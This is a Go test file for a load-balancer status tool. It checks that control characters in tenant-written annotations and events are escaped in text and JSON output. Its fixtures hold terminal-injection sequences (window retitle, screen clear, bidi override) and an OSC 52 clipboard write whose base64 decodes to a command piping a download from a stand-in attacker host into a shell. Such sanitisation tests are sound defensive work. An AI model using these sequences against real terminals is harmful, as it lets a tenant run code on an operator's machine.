package status

import (
	"bytes"
	"encoding/json"
	"fmt"
	"testing"
	"unicode"
	"unicode/utf8"

	v1 "k8s.io/api/core/v1"

	"github.com/keeplb/keeplb/pkg/annotations"
)

func TestPrintable(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"node-a", "node-a"},
		{"", ""},
		{"ünïcödé-node", "ünïcödé-node"},
		{"\x1b]0;pwned\x07", `\x1b]0;pwned\x07`},
		{"a\rb\nc\td", `a\x0db\x0ac\x09d`},
		{"del\x7f", `del\x7f`},
		{"c1 \u009b2J", `c1 \x9b2J`},
		{"raw \x9b byte", `raw \x9b byte`},
		{"rtl \u202eevil", `rtl \u202eevil`},
		{`spelt \x1b`, `spelt \x1b`},
	} {
		if got := Printable(tc.in); got != tc.want {
			t.Errorf("Printable(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// hostile are the strings a tenant writes into its Service's
// keeplb.io/holder annotation and into a Warning event about its Service:
// an OSC 0 that retitles the operator's window, an OSC 52 that writes the
// clipboard, a carriage return that overwrites the row, a C1 CSI (as UTF-8
// and as a raw byte) that clears the screen, and a bidi override.
const (
	hostileNode    = "node-a\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\rnode-b"
	hostileProblem = "quota\x1b[2J\u009b2J\x9b2J\u202eexceeded\x1b[1A"
)

// terminalUnsafe returns a description of the first byte or rune in b a
// terminal would act on, other than the newlines ending the rows.
func terminalUnsafe(b []byte) string {
	for i := 0; i < len(b); {
		r, size := utf8.DecodeRune(b[i:])
		switch {
		case r == utf8.RuneError && size <= 1:
			return fmt.Sprintf("byte %#x at %d", b[i], i)
		case r != '\n' && unicode.IsControl(r), unicode.Is(unicode.Bidi_Control, r):
			return fmt.Sprintf("%U at %d", r, i)
		}
		i += size
	}
	return ""
}

func hostileReport(t *testing.T) Report {
	t.Helper()
	web := lbService("tenant", "web", nil, map[string]string{annotations.Holder: "192.0.2.1=" + hostileNode}, "192.0.2.1")
	pending := lbService("tenant", "pending", nil, nil)
	ev := warning("tenant", "pending", "uid-pending", hostileProblem, 0)
	r := Build(nil, []v1.Service{*web, *pending}, []v1.Event{*ev}, Options{DefaultClass: true})
	if len(r.Services) != 2 || r.Services[1].Holder != hostileNode || r.Services[0].Problem != hostileProblem {
		t.Fatalf("the hostile strings did not reach the report: %+v", r.Services)
	}
	return r
}

// TestWriteTextEscapesTenantStrings: no control character from a tenant's
// annotation or event reaches the text output raw; each shows as a visible
// escape instead.
func TestWriteTextEscapesTenantStrings(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteText(&buf, hostileReport(t)); err != nil {
		t.Fatal(err)
	}
	out := buf.Bytes()
	if what := terminalUnsafe(out); what != "" {
		t.Errorf("text output carries %s to the terminal:\n%q", what, out)
	}
	for _, want := range []string{
		`node-a\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x0dnode-b`,
		`quota\x1b[2J\x9b2J\x9b2J\u202eexceeded\x1b[1A`,
	} {
		if !bytes.Contains(out, []byte(want)) {
			t.Errorf("text output lacks the escaped form %s:\n%s", want, out)
		}
	}
	if rows := bytes.Count(out, []byte("\n")); rows != 7 {
		t.Errorf("text output has %d lines, want 7 (a tenant string broke a row):\n%s", rows, out)
	}
}

// TestWriteJSONEscapesTenantStrings: the JSON output carries the tenant's
// strings whole, as JSON escapes, and no control character raw.
func TestWriteJSONEscapesTenantStrings(t *testing.T) {
	r := hostileReport(t)
	var buf bytes.Buffer
	if err := WriteJSON(&buf, r); err != nil {
		t.Fatal(err)
	}
	if what := terminalUnsafe(buf.Bytes()); what != "" {
		t.Errorf("JSON output carries %s to the terminal:\n%q", what, buf.Bytes())
	}
	var got Report
	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	if got.Services[1].Holder != hostileNode {
		t.Errorf("JSON holder = %q, want %q", got.Services[1].Holder, hostileNode)
	}
	// encoding/json replaces the raw byte 0x9b, which is not UTF-8, with
	// U+FFFD; every other character survives.
	if want := "quota\x1b[2J\u009b2J\ufffd2J\u202eexceeded\x1b[1A"; got.Services[0].Problem != want {
		t.Errorf("JSON problem = %q, want %q", got.Services[0].Problem, want)
	}
}
